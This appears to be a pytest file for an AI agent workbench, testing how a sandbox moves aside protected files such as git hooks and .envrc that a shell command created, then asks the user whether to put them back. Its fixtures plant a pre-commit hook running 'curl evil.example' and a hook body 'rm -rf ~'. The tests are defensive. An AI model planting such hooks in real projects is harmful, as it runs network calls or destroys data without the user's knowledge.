"""Protected files that a command made are moved aside, and the user decides whether they are put back: sessions with a
real shell.
"""

from __future__ import annotations

import os
import threading

import pytest

from tests.sandbox import wait_for
from tests.session.fake_agent import Harness, calls, says
from tests.session.test_integrity_guard import observed_text
from workbench.protocol.events import ActionProposed
from workbench.rules.rule_set import RuleSet
from workbench.sandbox.set_aside import SetAside
from workbench.session.actions.decide import CommandError
from workbench.session.actions.host_questions import HostQuestions
from workbench.session.actions.put_back_questions import PutBackQuestions, put_back_steps
from workbench.session.actions.run import RunningCalls
from workbench.session.recovery import after_a_stop
from workbench.session.state import State
from workbench.tools import BashTool
from workbench.view.reducer import apply
from workbench.view.state import SessionState

SCRIPT = """
import os
os.makedirs('.hus' + 'ky')
open('.hus' + 'ky/pre-commit', 'w').write('curl evil.example')
open('.env' + 'rc', 'w').write('export A=1')
"""
MANY_FILES = "for n in range(10_000): open('.hus' + f'ky/{n}', 'w').close()"
COMMAND = "python3 setup.py"


class Asked:
    """A session whose command makes protected files that no question showed."""

    def __init__(self, tmp_path, monkeypatch, *, script=SCRIPT, mode="high", has_user=True):
        self.aside = tmp_path / "state/put-back"
        self.project, home = tmp_path / "project", tmp_path / "home"
        for directory in (self.project, home):
            directory.mkdir()
        monkeypatch.setenv("HOME", str(home))
        (self.project / "setup.py").write_text(script)
        state, rules = State(), RuleSet()
        self.questions = HostQuestions(RunningCalls(), rules, state, has_user=has_user)
        self.harness = Harness(
            self.project,
            calls(("execute_bash", {"command": COMMAND})),
            says("done"),
            mode=mode,
            path=tmp_path / "one.ohw",
            rules=rules,
            state=state,
            state_dir=tmp_path / "state",
            tools=[BashTool(working_dir=str(self.project))],
            put_back=PutBackQuestions(self.questions, state).ask,
        )
        self.thread = threading.Thread(target=self._run, daemon=True)

    def _run(self):
        self.harness.session.send("go")
        self.harness.run()
        while self.harness.session.question is not None:
            self.harness.answer()

    def start(self):
        self.thread.start()
        return self

    def join(self):
        self.thread.join(60)
        assert not self.thread.is_alive()

    def question(self):
        def asked():
            state = SessionState(workspace=str(self.project))
            for event in list(self.harness.events):
                apply(state, event)
            items = [state.actions[name] for name in state.waiting]
            return next((item for item in items if item.tool == "put_back"), None)

        return wait_for(asked, "the question")

    def decide(self, item, verdict, **more):
        more.setdefault("fingerprint", item.fingerprint)
        assert self.questions.command(item.action_id, lambda question, name: question.decide(name, verdict, **more))

    def result(self):
        return observed_text(self.harness)

    def files(self):
        return sorted(path.name for path in self.project.iterdir() if path.name.startswith("."))

    def notices(self):
        return [event.notice for event in self.harness.log() if event.kind == "version_taken" and event.guarded]


@pytest.fixture
def asked(tmp_path, monkeypatch):
    opened = []

    def make(**more):
        opened.append(Asked(tmp_path, monkeypatch, **more))
        return opened[-1].start()

    yield make
    for session in opened:
        session.harness.tools["execute_bash"].executor.close()
        session.harness.close()


def test_question_shows_the_files_and_they_wait_elsewhere(asked):
    session = asked()
    item = session.question()
    assert (item.agent, item.risk) == ("sandbox", "HIGH")
    assert item.arguments["files"] == ".envrc, .husky"
    assert item.arguments["command"] == COMMAND
    assert item.reasons[0] == "protected files appeared that no question showed; they decide what programs run"
    assert ".husky/pre-commit:\ncurl evil.example" in item.arguments["content"]
    assert item.reasons[1] == "approve to put them back, reject to let them stay where they are now"
    assert item.arguments["directory"] == str(session.aside)
    assert session.files() == []
    session.decide(item, "rejected")
    session.join()


def test_approved_files_are_put_back_and_the_agent_is_told(asked):
    session = asked()
    session.decide(session.question(), "approved")
    session.join()
    assert session.files() == [".envrc", ".husky"]
    assert (session.project / ".husky/pre-commit").read_text() == "curl evil.example"
    assert (
        "[protected files changed: .envrc (new), .husky/pre-commit (new), which no question showed, and moved aside. "
        "The user put them back.]"
    ) in session.result()
    assert session.harness.session.ended
    assert [notice.endswith("You put them back") for notice in session.notices()] == [True]


def test_what_appears_while_the_question_waits_is_reported_and_asked_about(asked):
    session = asked()
    item = session.question()
    (session.project / ".vscode").mkdir()
    (session.project / ".vscode/tasks.json").write_text("evil")
    session.decide(item, "approved")
    session.join()
    [waited] = [notice for notice in session.notices() if ".vscode/tasks.json (new)" in notice]
    assert "the next action is asked about" in waited
    assert ".envrc" not in waited


def test_files_that_were_changed_after_they_were_shown_are_not_put_back(asked):
    session = asked()
    item = session.question()
    [saved] = session.aside.glob("*-.husky")
    (saved / "pre-commit").write_text("rm -rf ~")
    (session.project / ".husky").mkdir()
    (session.project / ".husky/mine").touch()
    session.decide(item, "approved")
    session.join()
    assert session.files() == [".envrc", ".husky"]
    assert [path.name for path in (session.project / ".husky").iterdir()] == ["mine"]
    assert "put them back except" in session.result()
    assert saved.exists()


@pytest.mark.parametrize(
    "more", ["os.truncate('.hus' + 'ky/pre-commit', 65_000_000)", MANY_FILES], ids=["size", "files"]
)
def test_what_a_process_may_still_change_is_not_offered(asked, more):
    session = asked(script=f"{SCRIPT}\n{more}")
    item = session.question()
    assert item.arguments["files"] == ".envrc"
    session.decide(item, "approved")
    session.join()
    assert session.files() == [".envrc"]
    assert f"except {session.project}/.husky, where that is not possible" in session.result()
    assert len(list(session.aside.glob("*-.husky"))) == 1


def test_rejected_files_stay_aside_and_the_agent_is_told(asked):
    session = asked()
    session.decide(session.question(), "rejected")
    session.join()
    assert session.files() == []
    assert "The user was asked, and did not put them back.]" in session.result()
    assert session.harness.session.ended


@pytest.mark.parametrize("more", [{"mode": "never"}, {"has_user": False}], ids=["never", "no user"])
def test_nobody_is_asked_where_no_user_is_or_in_never_mode(asked, more):
    session = asked(**more)
    session.join()
    assert session.files() == []
    assert "moved aside. A protected file is changed only where the call names it" in session.result()


def test_a_stopped_run_lets_them_stay_aside(asked):
    session = asked()
    item = session.question()
    session.harness.session.interrupt()
    session.join()
    assert session.files() == []
    assert not session.questions.command(item.action_id, lambda question, name: None)


def test_after_a_kill_the_question_is_closed_and_names_the_directory(asked):
    session = asked()
    item = session.question()
    ledger = State()
    for event in session.harness.log():
        ledger.apply(event)
    assert list(ledger.delegated) == [item.action_id]
    for event in after_a_stop(ledger):
        ledger.apply(event)
        if event.kind == "delegate_step":
            assert f"What was moved aside stays in {session.aside}: .envrc, .husky." in str(event.event.observation)
    assert ledger.delegated == {}
    session.decide(item, "rejected")
    session.join()


def test_files_are_put_back_as_they_are_and_only_for_the_shown_question(asked):
    session = asked()
    item = session.question()
    with pytest.raises(CommandError, match="or not at all"):
        session.decide(item, "edited")
    with pytest.raises(CommandError, match="changed since it was shown"):
        session.decide(item, "approved", fingerprint="another")
    session.decide(item, "rejected")
    session.join()


ACTION = ActionProposed(
    action_id="a1", response_id="", call_id="a1", tool="execute_bash", arguments={"command": COMMAND}
)


def content_of(moved, workspace="/home/ann/demo"):
    step, _ = put_back_steps(ACTION, moved, workspace)
    return step.arguments["content"]


@pytest.mark.timeout(20)
def test_question_waits_for_no_pipe(tmp_path):
    saved = tmp_path / "1-.husky"
    saved.mkdir()
    os.mkfifo(saved / "pipe")
    (saved / "pre-commit").write_text("curl evil.example")
    content = content_of([SetAside("/home/ann/demo/.husky", str(saved))])
    assert ".husky/pipe:\nit cannot be read" in content
    assert "curl evil.example" in content


def test_a_long_file_hides_no_other_one(tmp_path):
    moved = []
    for name, content in ((".envrc", "# " + "x" * 30_000), (".husky", "curl evil.example")):
        (tmp_path / f"1-{name}").write_text(content)
        moved.append(SetAside(f"/home/ann/demo/{name}", str(tmp_path / f"1-{name}")))
    step, assessed = put_back_steps(ACTION, moved, "/home/ann/demo")
    assert step.arguments["content"].startswith(".envrc · 30,002 bytes\n.husky · 17 bytes\n\n.envrc:\n# xxx")
    assert "not all of their content is shown here" in assessed.reasons
